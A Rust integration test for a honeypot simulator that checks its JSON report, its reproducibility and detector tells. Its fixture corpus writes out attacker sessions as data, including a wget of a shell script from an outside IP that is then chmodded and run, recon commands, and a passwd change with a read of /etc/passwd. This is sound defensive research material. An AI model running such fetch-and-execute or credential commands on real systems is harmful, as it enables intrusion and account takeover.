//! `mirage simulate`, run as the real binary with a tiny population: the JSON contract, the
//! same seed giving the same report, and detectors leaving a static node at a tell.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

/// A small corpus in the shared data's format: a dropper, a recon session, a password change.
fn corpus(dir: &Path) -> PathBuf {
    let sessions = [
        serde_json::json!({"source": "test", "session": "a", "start": "2024-01-01T00:00:00Z",
            "username": "root", "password": "admin", "label": "malware_dropper",
            "commands": [
                {"t": 0.0, "input": "cd /tmp"},
                {"t": 1.5, "input": "wget http://198.51.100.7/bins.sh"},
                {"t": 3.0, "input": "chmod 777 bins.sh"},
                {"t": 4.0, "input": "sh bins.sh"}]}),
        serde_json::json!({"source": "test", "session": "b", "start": "2024-01-01T01:00:00Z",
            "username": "root", "password": "123456", "label": "recon_fingerprint",
            "commands": [
                {"t": null, "input": "uname -a"},
                {"t": null, "input": "cat /proc/cpuinfo | grep name | wc -l"},
                {"t": null, "input": "free -m"},
                {"t": null, "input": "ls -la"}]}),
        serde_json::json!({"source": "test", "session": "c", "start": "2024-01-01T02:00:00Z",
            "username": "admin", "password": "admin", "label": "credential_hijack",
            "commands": [
                {"t": null, "input": "echo -e \"pw\\nx\\nx\" | passwd"},
                {"t": null, "input": "cat /etc/passwd"}]}),
    ];
    let text: String = sessions.iter().map(|s| format!("{s}\n")).collect();
    let path = dir.join("corpus.jsonl");
    std::fs::write(&path, text).expect("temp dir is writable");
    path
}

fn simulate(corpus: &Path, seeds: &str) -> Value {
    let models = Path::new(env!("CARGO_MANIFEST_DIR")).join("models");
    let out = Command::new(env!("CARGO_BIN_EXE_mirage"))
        .args(["simulate", "--json", "--seeds", seeds, "--days", "2"])
        .args(["--sessions-per-day", "6", "--mix", "1:1:2", "--jobs", "2"])
        .arg("--corpus")
        .arg(corpus)
        .arg("--models")
        .arg(&models)
        .env("RUST_LOG", "error")
        .output()
        .expect("the binary runs");
    assert!(
        out.status.success(),
        "mirage simulate failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("one JSON object on stdout")
}

#[test]
fn simulate_reports_the_contract_reproducibly_and_detectors_leave_a_static_node() {
    let dir = tempfile::tempdir().expect("temp dir");
    let corpus = corpus(dir.path());
    let report = simulate(&corpus, "2");

    for config in ["static", "adaptive"] {
        let c = &report[config];
        for field in [
            "mttd_mean",
            "mttd_p50",
            "never_detected_share",
            "dwell_mean",
        ] {
            assert!(c[field].is_number(), "{config}.{field} missing: {c}");
        }
        assert!(c["mttd_distribution"]["quantiles"]["p50"].is_number());
        assert!(c["by_class"].as_object().is_some_and(|m| !m.is_empty()));
        assert!(c["by_kind"]["detector"]["commands_mean"].is_number());
        assert_eq!(c["learning_curve"].as_array().map(Vec::len), Some(2));
        assert_eq!(c["mttd_mean_by_seed"].as_array().map(Vec::len), Some(2));
        let share = c["never_detected_share"].as_f64().unwrap();
        assert!((0.0..=1.0).contains(&share));
    }
    assert!(
        report["ratio"]["method"]
            .as_str()
            .is_some_and(|m| m.contains("bootstrap"))
    );
    assert_eq!(report["ratio"]["seeds"], 2);

    // A static node shows detectors tells: they leave, so its MTTD is finite and below the
    // budget for the ones that detected.
    let fixed = &report["static"];
    assert!(fixed["detectors"].as_u64().unwrap() > 0);
    assert!(fixed["never_detected_share"].as_f64().unwrap() < 1.0);
    let tells: u64 = fixed["tells"]
        .as_object()
        .expect("tells by name")
        .values()
        .filter_map(Value::as_u64)
        .sum();
    assert!(
        tells > 0,
        "no detector found a tell on the static node: {fixed}"
    );
    let budget = report["run"]["budget_s"].as_f64().unwrap();
    assert!(fixed["mttd_detected_mean"].as_f64().unwrap() < budget);

    // The same seeds give the same report.
    assert_eq!(simulate(&corpus, "2"), report);
}
